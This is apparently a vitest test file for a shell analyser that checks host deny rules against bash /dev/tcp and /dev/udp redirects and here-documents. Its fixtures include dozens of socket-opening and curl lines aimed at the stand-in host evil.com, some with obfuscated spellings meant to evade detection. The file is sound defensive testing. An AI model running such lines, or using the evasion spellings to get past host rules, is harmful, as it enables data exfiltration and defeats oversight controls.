// Host rules against what a line names outside its commands' words: bash's network redirects
// (`cat </dev/tcp/evil.com/80`) and the text of here-documents and here-strings. Each of these
// lines got no question from a deny of the host before; lines that name no such host, or only
// a path bash does not open as a socket (`/dev//tcp/…`), still get none.
import { describe, expect, it } from "vitest";
import { analyseShell } from "../shell/analyse";
import { commandMayReach, hostForms, normaliseHost, normalisePattern } from "./hosts";
import { expandHereDocument } from "./hosts-words";
import { globToRegExp, ruleWords } from "./rules";
import { matchPrefix } from "./shell";

// What rules.ts asks for a deny or ask host rule whose other conditions hold, handed the line.
function reach(line: string, host = "evil.com", network = true, command?: string): string | undefined {
  const p = normalisePattern(host);
  const matches = (h: string) =>
    hostForms(normaliseHost(h)).some((f) => (p.startsWith("*.") ? f.endsWith(p.slice(1)) : globToRegExp(p).test(f)));
  let commands = analyseShell(line).commands;
  if (command) commands = commands.filter((c) => matchPrefix(c, ruleWords(command), "loose") !== "no");
  return commandMayReach(matches, host, commands, network, line);
}

describe("a host a network redirect names is asked about, with network or without", () => {
  it.each([
    "exec 3<>/dev/tcp/evil.com/80",
    "exec {fd}<>/dev/tcp/evil.com/80",
    "cat </dev/tcp/evil.com/443",
    "echo x >/dev/udp/evil.com/53",
    "cat 0</dev/tcp/evil.com/80",
    "echo x >&/dev/tcp/evil.com/80",
    "echo x &>/dev/tcp/evil.com/80",
    "cat >>/dev/udp/evil.com/53",
    "cat >|/dev/tcp/evil.com/80",
    "cat <>/dev/tcp/evil.com/80",
    "read -r x </dev/tcp/evil.com/80",
    // spellings bash decodes or resolves the same
    "cat </dev/tcp/$'evi\\x6c.com'/443",
    "echo >/dev/tcp/$'\\x65'vil.com/80",
    "cat </dev/tcp/evi{l..l}.com/80",
    'cat <"/dev/tcp/evil.com/80"',
    'cat </dev/tcp/"evil".com/80',
    "cat </dev/tcp/EVIL.COM./80",
    "cat </dev/tcp/evil.com/http",
    'cat <"/dev/tcp/${H:-evil.com}/80"',
    // on any statement
    "{ echo x; } 3<>/dev/tcp/evil.com/80",
    "{ echo x; } >/dev/tcp/evil.com/80",
    "while read l; do echo $l; done </dev/tcp/evil.com/80",
    "for i in 1; do :; done >/dev/tcp/evil.com/80",
    "if true; then :; fi </dev/tcp/evil.com/80",
    "(cat) </dev/tcp/evil.com/80",
    "f() { echo; } >/dev/tcp/evil.com/80",
    "</dev/tcp/evil.com/80",
    "ls | cat >/dev/tcp/evil.com/80 | wc",
    "true && cat </dev/tcp/evil.com/80 &",
    "env X=1 cat </dev/tcp/evil.com/80",
    "echo $(cat </dev/tcp/evil.com/80)",
    "bash -c \"cat </dev/tcp/\\$'evi\\\\x6c.com'/80\"",
    "bash <<'EOF'\ncat </dev/tcp/$'evi\\x6c.com'/80\nEOF",
  ])("%s", (line) => {
    expect(reach(line, "evil.com", true)).toContain("it names evil.com");
    expect(reach(line, "evil.com", false)).toContain("it names evil.com");
  });

  it.each([
    "cat </dev/tcp/127.0.0.1/80",
    "cat </dev/tcp/0x7f000001/443",
    "cat </dev/tcp/2130706433/80",
    "cat </dev/tcp/127.1/80",
    "cat </dev/tcp/::ffff:7f00:1/80",
    "cat </dev/tcp/::ffff:127.0.0.1/80",
    "bash <<'EOF'\ncat </dev/tcp/::ffff:7f00:1/80\nEOF",
  ])("%s, under a rule on 127.0.0.1", (line) => {
    expect(reach(line, "127.0.0.1", false)).toMatch(/it names (127\.0\.0\.1|::ffff:7f00:1)/);
  });

  it("a catch-all rule holds for any socket bash opens", () => {
    expect(reach("cat </dev/tcp/ok.com/80", "*", false)).toContain("it names ok.com");
  });
});

describe("a network redirect to a host only known at run time is asked about with network", () => {
  it.each([
    ["cat </dev/tcp/$H/80", "connects to a host only known at run time"],
    ['cat <"/dev/tcp/$H/80"', "connects to a host only known at run time"],
    ["cat </dev/tcp/`cat h`/80", "connects to a host only known at run time"],
    ['echo x >&"/dev/tcp/$H/80"', "connects to a host only known at run time"],
    ["bash -c 'cat </dev/tcp/$H/80'", "connects to a host only known at run time"],
    ['cat < "$f"', "may be a connection to any host"],
    ["T=tcp; cat </dev/$T/x/80", "may be a connection to any host"],
  ])("%s", (line, why) => {
    expect(reach(line, "evil.com", true)).toContain(why);
    expect(reach(line, "*", true)).toContain(why);
    expect(reach(line, "evil.com", false)).toBeUndefined();
  });
});

describe("a here-document or here-string that names a host is asked about", () => {
  it.each([
    'python3 - <<EOF\nimport urllib.request; urllib.request.urlopen("http://evil.com")\nEOF',
    "curl -K - <<<'url = \"https://evil.com\"'",
    "bash <<'EOF'\ncurl evil.com\nEOF",
    "sh -s <<EOF\ncurl evil.com\nEOF",
    "sudo bash <<'EOF'\ncat </dev/tcp/evil.com/80\nEOF",
    "cat <<-EOF\n\tcurl evil.com\n\tEOF",
    'cat <<"EOF"\nevil.com\nEOF',
    "cat <<\\EOF\nevil.com\nEOF",
    "cat <<A; cat <<B\nok.com\nA\nevil.com\nB",
    "x=$(cat <<EOF\nevil.com\nEOF\n)",
    "true && cat <<EOF\nevil.com\nEOF",
    "cat <<EOF\n${H:-evil.com}\nEOF",
    "cat <<EOF > x.txt\nhttps://evil.com/x\nEOF",
    "cat <<< $'evi\\x6c.com'",
    "nc localhost 80 <<< $'GET / HTTP/1.0\\r\\nHost: evi\\x6c.com\\r\\n'",
    "nc -q0 localhost 80 <<EOF\nGET / HTTP/1.0\nHost: evil.com\nEOF",
    "ssh -F /dev/stdin x <<'EOF'\nHost x\n  Hostname evil.com\nEOF",
  ])("%s", (line) => {
    expect(reach(line, "evil.com", true)).toContain("it names evil.com");
    expect(reach(line, "evil.com", false)).toContain("it names evil.com");
  });

  it("a URL's host is read whole, in brackets too", () => {
    const line = "python3 - <<'EOF'\nurlopen('http://[::ffff:7f00:1]/')\nEOF";
    expect(reach(line, "127.0.0.1", false)).toContain("it names ::ffff:7f00:1");
  });

  it.each(["cat <<EOF > x.txt\n$HOME\nEOF", "cat <<EOF\n$(cat h)\nEOF", 'grep x <<< "$out"'])(
    "%s: what it expands is only known at run time, a question with network only",
    (line) => {
      expect(reach(line, "evil.com", true)).toContain("only known at run time and may name any host");
      expect(reach(line, "evil.com", false)).toBeUndefined();
    },
  );
});

describe("what the grammar cannot read is asked about all the same", () => {
  // The analysis marks these opaque: a backquote in an unquoted body, a delimiter partly quoted.
  it.each(["cat <<EOF\n`cat h`\nEOF", "cat <<E'O'F\nevil.com\nEOF", "cat <<A <<B\nok.com\nA\nevil.com\nB"])(
    "%s",
    (line) => expect(reach(line, "evil.com", false)).toBeDefined(),
  );
});

describe("lines that name no such host still run", () => {
  it.each([
    "cat > README.md <<'EOF'\n# Demo\nSee https://example.com and `curl example.com`.\nEOF",
    "cat > README.md <<EOF\nSee https://example.com. Cost \\$5.\nEOF",
    "cat <<'EOF' > notes.md\nevil.com.example.org and notevil.com\nEOF",
    "git commit -F - <<'EOF'\nfix: handle $HOME and `x`\nEOF",
    // bash opens only the exact `/dev/tcp/` and `/dev/udp/` spellings as sockets
    "cat </dev//tcp/evil.com/80",
    "cat </dev/./tcp/evil.com/80",
    "cat </dev/TCP/evil.com/80",
    "echo hi >/dev/tcp/ok.com/80",
    "cat </dev/tcp/ok.com/$P",
    "cat < out/$f",
    "cat < <(ls)",
    "cat 2>&1 >/dev/null <in.txt",
    "exec 3<&0",
    "while read f; do echo x; done < files.txt",
  ])("%s", (line) => {
    expect(reach(line, "evil.com", true)).toBeUndefined();
    expect(reach(line, "evil.com", false)).toBeUndefined();
  });
});

describe("a rule on one program counts the redirects of its commands only", () => {
  it("another command's redirect or here-document is not its own", () => {
    expect(reach("curl https://ok.com; cat </dev/tcp/evil.com/80", "evil.com", true, "curl")).toBeUndefined();
    expect(reach("curl https://ok.com; cat <<EOF\nevil.com\nEOF", "evil.com", true, "curl")).toBeUndefined();
    expect(reach("curl https://ok.com; cat <<EOF\n$X\nEOF", "evil.com", true, "curl")).toBeUndefined();
  });
  it("its own is", () => {
    expect(reach("curl -T - https://ok.com </dev/tcp/evil.com/80", "evil.com", true, "curl")).toContain(
      "it names evil.com",
    );
    const ssh = "ls; ssh -F /dev/stdin x <<'EOF'\nHost x\n  Hostname evil.com\nEOF";
    expect(reach(ssh, "evil.com", false, "ssh")).toContain("it names evil.com");
    expect(reach("ls; bash -c 'cat </dev/tcp/evil.com/80'", "evil.com", false, "cat")).toContain("it names evil.com");
  });
});

describe("expandHereDocument", () => {
  it("keeps quotes, globs and braces as text and resolves the escapes bash does", () => {
    expect(expandHereDocument("a 'b' \"c\" * {d,e} \\$X \\` \\\\ \\q\n")).toMatchObject({
      values: ["a 'b' \"c\" * {d,e} $X ` \\ \\q\n"],
      unknown: false,
    });
    expect(expandHereDocument("x\\\ny").values).toEqual(["xy"]);
    expect(expandHereDocument("$'a' costs $")).toMatchObject({ values: ["$'a' costs $"], unknown: false });
  });
  it.each(["$H", "${H}", "$(x)", "`x`", "$((1+1))", "$1"])("%s is only known at run time", (body) =>
    expect(expandHereDocument(`a ${body} b`).unknown).toBe(true),
  );
  it("keeps a default's text", () => expect(expandHereDocument("${H:-evil.com}").fragments).toContain("evil.com"));
});
